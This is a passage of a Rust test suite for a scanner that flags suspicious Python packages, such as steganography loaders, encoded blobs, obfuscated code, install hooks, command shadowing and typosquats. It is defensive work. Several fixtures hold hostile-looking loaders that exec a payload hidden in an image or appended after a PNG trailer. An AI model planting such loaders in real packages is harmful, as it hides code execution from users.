"#,
    );
    assert_eq!(hits(&pixels, "hiding/steganography", MOD), [(6, High)]);
    let library = module(
        "from stegano import lsb
exec(lsb.reveal('acme/banner.png'))
",
    );
    assert_eq!(hits(&library, "hiding/steganography", MOD), [(2, High)]);
    let trailer = module(
        "import zlib
def boot():
    raw = open('acme/icon.ico', 'rb').read()
    exec(zlib.decompress(raw[raw.rindex(b'IEND') + 8:]))
",
    );
    assert_eq!(hits(&trailer, "hiding/steganography", MOD), [(4, High)]);
}

#[test]
fn image_processing_and_unrelated_exec_are_not_steganography() {
    let r = module(
        r#"from PIL import Image
LOGO = "static/logo.png"
def histogram(path):
    return sorted(Image.open(path).getdata())
def render(template, context):
    code = compile(template, "<template>", "exec")
    exec(code, context)
"#,
    );
    none(&r, "hiding/steganography");
    let library = module(
        "from stegano import lsb
def hide(path, message):
    return lsb.hide(path, message)
",
    );
    assert_eq!(hits(&library, "hiding/steganography", MOD), [(1, Medium)], "a steganography library alone is medium");
}

// ---------------------------------------------------------------- hiding/*

#[test]
fn a_long_random_base64_string_is_an_encoded_blob() {
    let r = module(&format!("import base64\nDATA = \"{}\"\n", b64(&noise(1500))));
    assert_eq!(hits(&r, "hiding/encoded-blob", MOD), [(2, Medium)]);
}

#[test]
fn long_prose_and_long_repetitive_strings_are_not_encoded_blobs() {
    let prose = "The quick brown fox jumps over the lazy dog. ".repeat(40);
    let r = module(&format!("import os\nLICENSE = \"{prose}\"\nPADDING = \"{}\"\n", "QUFB".repeat(400)));
    none(&r, "hiding/encoded-blob");
}

#[test]
fn a_long_random_hex_string_is_an_encoded_blob() {
    let hex: String = noise(1500).iter().map(|b| format!("{b:02x}")).collect();
    let r = module(&format!("import base64\nPAYLOAD = \"{hex}\"\n"));
    assert_eq!(hits(&r, "hiding/encoded-blob", MOD), [(2, Medium)]);
}

#[test]
fn a_base64_blob_wrapped_in_short_lines_is_an_encoded_blob() {
    let blob = b64(&noise(1500));
    let wrapped: Vec<&str> = blob.as_bytes().chunks(76).map(|c| std::str::from_utf8(c).unwrap()).collect();
    let r = module(&format!("BLOB = \"\"\"\n{}\n\"\"\"\n", wrapped.join("\n")));
    assert_eq!(hits(&r, "hiding/encoded-blob", MOD), [(1, Medium)]);
}

#[test]
fn a_line_over_twenty_thousand_characters_is_packed_code() {
    let r = module(&format!("import os\n{}\n", "x=1;".repeat(6000)));
    assert_eq!(hits(&r, "hiding/long-line", MOD), [(2, Medium)]);
}

#[test]
fn a_long_line_under_the_limit_is_not_packed_code() {
    let r = module(&format!("import os\nTABLE = [{}]\n", "1234, ".repeat(3000)));
    none(&r, "hiding/long-line");
}

#[test]
fn pyarmor_output_is_packed_code() {
    let r = module(
        "# Pyarmor 8.5.0 (trial), 000000, 2024-01-01T00:00:00.000000\nfrom .pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY000000\\x00\\x03')\n",
    );
    assert_eq!(hits(&r, "hiding/packer", MOD), [(2, High)]);
}

#[test]
fn older_pyarmor_output_and_an_obfuscator_marker_are_packed_code() {
    let r = module("from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, b'\\x50\\x59')\n");
    assert_eq!(hits(&r, "hiding/packer", MOD), [(1, High)]);
    let r = module("__obfuscator__ = 'Hyperion'\n__authors__ = ('x',)\n");
    assert_eq!(hits(&r, "hiding/packer", MOD), [(1, High)]);
}

#[test]
fn a_build_helper_running_the_pyarmor_cli_is_not_packed() {
    let r = module("import subprocess\ndef obfuscate(src):\n    subprocess.run(['pyarmor', 'gen', '-O', 'dist', src], check=True)\n");
    none(&r, "hiding/packer");
}

#[test]
fn a_docstring_mentioning_pyarmor_is_not_packed_code() {
    let r = module(
        "\"\"\"Build helpers. We do not ship pyarmor_runtime: the code stays readable.\"\"\"\nimport subprocess\ndef obfuscate(src):\n    subprocess.run(['pyarmor', 'gen', src])\n",
    );
    none(&r, "hiding/packer");
}

// ---------------------------------------------------------------- install hooks

#[test]
fn overriding_install_is_medium_and_a_build_step_low() {
    let r = setup_py(
        r#"from setuptools import setup
from setuptools.command.install import install
from setuptools.command.build_py import build_py
class PostInstall(install):
    pass
class BuildPy(build_py):
    pass
setup(cmdclass={"install": PostInstall, "build_py": BuildPy})
"#,
    );
    assert_eq!(hits(&r, "install-hook/command-override", SETUP), [(4, Medium), (6, Low)]);
}

#[test]
fn a_build_ext_subclass_or_a_command_class_in_a_wheel_is_not_an_override() {
    let r = setup_py("from setuptools import setup\nfrom setuptools.command.build_ext import build_ext\nclass BuildExt(build_ext):\n    pass\nsetup()\n");
    none(&r, "install-hook/command-override");
    let w = wheel(&[("acme/setup.py", "from setuptools.command.install import install\nclass I(install):\n    pass\n")]);
    none(&w, "install-hook/command-override");
}

#[test]
fn sitecustomize_and_usercustomize_at_the_top_of_site_packages_are_high() {
    let r = wheel(&[("sitecustomize.py", "x = 1\n"), ("acme-1.0.data/purelib/usercustomize.py", "x = 1\n")]);
    assert_eq!(hits(&r, "install-hook/sitecustomize", "sitecustomize.py"), [(0, High)]);
    assert_eq!(hits(&r, "install-hook/sitecustomize", "acme-1.0.data/purelib/usercustomize.py"), [(0, High)]);
}

#[test]
fn a_sitecustomize_inside_a_package_or_an_sdist_is_not_a_startup_hook() {
    none(&wheel(&[("acme/__init__.py", ""), ("acme/sitecustomize.py", "x = 1\n")]), "install-hook/sitecustomize");
    none(&sdist(&[("sitecustomize.py", "x = 1\n")]), "install-hook/sitecustomize");
}

#[test]
fn a_console_script_named_like_a_system_command_shadows_it() {
    let r = wheel(&[("acme-1.0.dist-info/entry_points.txt", "[console_scripts]\nls = acme.cli:main\n")]);
    assert_eq!(hits(&r, "install-hook/entry-point-shadowing", "acme-1.0.dist-info/entry_points.txt"), [(2, High)]);
}

#[test]
fn own_scripts_and_plugin_entry_points_do_not_shadow() {
    let r = wheel(&[(
        "acme-1.0.dist-info/entry_points.txt",
        "[console_scripts]\nacme = acme.cli:main\nacme-ls = acme.cli:ls\n\n[acme.plugins]\ngit = acme.plugins.git:Plugin\n",
    )]);
    none(&r, "install-hook/entry-point-shadowing");
}

#[test]
fn an_in_tree_backend_is_medium_and_an_uncommon_one_low() {
    let r = sdist(&[("pyproject.toml", "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\"_build\"]\n")]);
    assert_eq!(hits(&r, "install-hook/build-backend", "acme-1.0/pyproject.toml"), [(3, Low), (4, Medium)]);
}

#[test]
fn common_build_backends_are_not_flagged() {
    for backend in ["setuptools.build_meta", "hatchling.build", "flit_core.buildapi", "poetry.core.masonry.api"] {
        let r = sdist(&[("pyproject.toml", &format!("[build-system]\nrequires = []\nbuild-backend = '{backend}'\n"))]);
        none(&r, "install-hook/build-backend");
    }
}

#[test]
fn a_common_backend_followed_by_a_toml_comment_is_not_flagged() {
    let r = sdist(&[("pyproject.toml", "[build-system]\nrequires = []\nbuild-backend = \"setuptools.build_meta\"  # the default\n")]);
    none(&r, "install-hook/build-backend");
}

// ---------------------------------------------------------------- metadata

fn wheel_with_metadata(name: &str, version: &str, extra: &str) -> Report {
    wheel_named(&format!("{name}-{version}"), &format!("Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n{extra}"), &[])
}

#[test]
fn a_name_one_edit_from_a_popular_project_is_a_typosquat() {
    let r = wheel_with_metadata("reqeusts", "1.0", "Summary: HTTP\nAuthor: Ann\n");
    assert_eq!(hits(&r, "metadata/typosquat", ""), [(0, Medium)]);
}

#[test]
fn a_popular_name_itself_and_an_unrelated_name_are_not_typosquats() {
    none(&wheel_with_metadata("requests", "2.32.0", "Summary: HTTP\nAuthor: Kenneth\n"), "metadata/typosquat");
    none(&wheel_with_metadata("acme", "1.0", "Summary: Acme tools\nAuthor: Ann\n"), "metadata/typosquat");
}

#[test]
fn no_summary_and_no_author_or_a_placeholder_version_is_placeholder_metadata() {
    assert_eq!(hits(&wheel_with_metadata("acme", "1.0", ""), "metadata/placeholder", ""), [(0, Low)]);
    assert_eq!(hits(&wheel_with_metadata("acme", "0.0.0", "Summary: Acme tools\nAuthor: Ann\n"), "metadata/placeholder", ""), [(0, Low)]);
    assert_eq!(hits(&wheel_with_metadata("acme", "999.1", "Summary: Acme tools\nAuthor: Ann\n"), "metadata/placeholder", ""), [(0, Low)]);
}

#[test]
fn a_calendar_version_or_a_summary_without_author_is_not_placeholder_metadata() {
    none(&wheel_with_metadata("acme", "2024.1.0", "Summary: Acme tools\nAuthor: Ann\n"), "metadata/placeholder");
    none(&wheel_with_metadata("acme", "0.0.1", "Summary: Acme tools\n"), "metadata/placeholder");
}

/// The release's wheel against its sdist, as the worker compares them.
fn wheel_vs_sdist(wheel: &Report, sdist: &Report) -> Vec<(String, Severity)> {
    let paths = |r: &Report| r.entries.iter().map(|e| e.path.clone()).collect::<Vec<String>>();
    let found = airlock_inspect::compare::compare_wheel_to_sdist(&paths(wheel), &paths(sdist));
    assert!(found.iter().all(|f| f.rule == "metadata/wheel-sdist-mismatch" && f.line.is_none()), "{found:?}");
    found.into_iter().map(|f| (f.file.unwrap_or_default(), f.severity)).collect()
}

#[test]
fn code_only_in_the_wheel_is_a_wheel_sdist_mismatch() {
    let s = sdist(&[("src/acme/__init__.py", ""), ("src/acme/core.py", "")]);
    let w = wheel(&[("acme/__init__.py", ""), ("acme/core.py", ""), ("acme/_backdoor.py", "import os\n"), ("acme-init.pth", "import acme\n")]);
    assert_eq!(wheel_vs_sdist(&w, &s), [("acme/_backdoor.py".to_string(), Medium), ("acme-init.pth".to_string(), High)]);
}

#[test]
fn a_generated_version_module_only_in_the_wheel_is_expected() {
    let s = sdist(&[("acme/__init__.py", ""), ("acme/core.py", "")]);
    let w = wheel(&[("acme/__init__.py", ""), ("acme/core.py", ""), ("acme/_version.py", "__version__ = '1.0'\n")]);
    assert!(wheel_vs_sdist(&w, &s).is_empty(), "{:?}", wheel_vs_sdist(&w, &s));
}

#[test]
fn a_module_whose_name_merely_ends_in_version_is_not_generated() {
    let s = sdist(&[("acme/__init__.py", "")]);
    let w = wheel(&[("acme/__init__.py", ""), ("acme/conversion.py", "import os\n")]);
    assert_eq!(wheel_vs_sdist(&w, &s), [("acme/conversion.py".to_string(), Medium)]);
}

// ---------------------------------------------------------------- coverage

#[test]
fn every_rule_outside_the_archive_family_is_tested_here_or_in_install_hooks() {
    // analysis_budget.rs tests the budget's own rule; behaviour_rules.rs and hidden_flows.rs the flows of issue #12.
    let tests = [
        include_str!("code_rules.rs"),
        include_str!("install_hooks.rs"),
        include_str!("analysis_budget.rs"),
        include_str!("behaviour_rules.rs"),
        include_str!("hidden_flows.rs"),
    ]
    .concat();
    let untested: Vec<&str> =
        airlock_inspect::rules::RULES.iter().map(|r| r.id).filter(|id| !id.starts_with("archive/") && !tests.contains(&format!("\"{id}\""))).collect();
    assert!(untested.is_empty(), "rules without a test: {untested:?}");
}
